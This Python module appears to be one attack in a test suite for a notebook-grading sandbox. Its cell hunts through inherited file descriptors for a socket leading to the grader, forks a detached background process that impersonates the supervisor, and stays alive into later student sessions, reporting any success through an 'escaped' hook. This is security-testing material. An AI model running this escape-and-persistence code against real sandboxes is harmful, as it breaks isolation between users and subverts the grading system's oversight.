"""Answers what the grader asks the supervisor, on whatever socket it finds: it would be given the next student's session.

It has none of the supervisor's.
"""

from attacks import FIND_CHANNEL, PROBES, Files, Notebook, with_cell

KIND = "leftovers"

CELL = (
    PROBES
    + FIND_CHANNEL
    + r"""
import stat
from inside import frames
import fcntl, termios
own = os.fstat(connection().fileno()).st_ino
ends = []
for number in range(3, 64):
    try:
        about = os.fstat(number)
        if about.st_ino != own and stat.S_ISSOCK(about.st_mode):
            ends.append(socket.socket(fileno=os.dup(number)))
    except OSError:
        pass
def waiting():
    return sum(int.from_bytes(fcntl.ioctl(end, termios.FIONREAD, bytes(4)), "little") for end in ends)
found = []
for end in {os.fstat(end.fileno()).st_ino: end for end in ends}.values():
    before = waiting()
    try:
        if end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12) == connection().getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12):
            end.send(frames.pack({"op": "left-by-an-attack"}), socket.MSG_DONTWAIT)
            if waiting() == before:
                escaped("a socket leads to the grader")
                found.append(end)
    except OSError:
        pass
if found and os.fork() == 0:
    os.setsid()
    while True:
        for each in found:
            try:
                data, extra, *_ = each.recvmsg(1 << 20, 1000, socket.MSG_DONTWAIT)
            except OSError:
                continue
            for _, _, numbers in extra:
                for (number,) in struct.iter_unpack("i", numbers):
                    os.close(number)
            if b"end" in data:
                each.sendall(frames.pack({"op": "ended"}))
"""
)


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
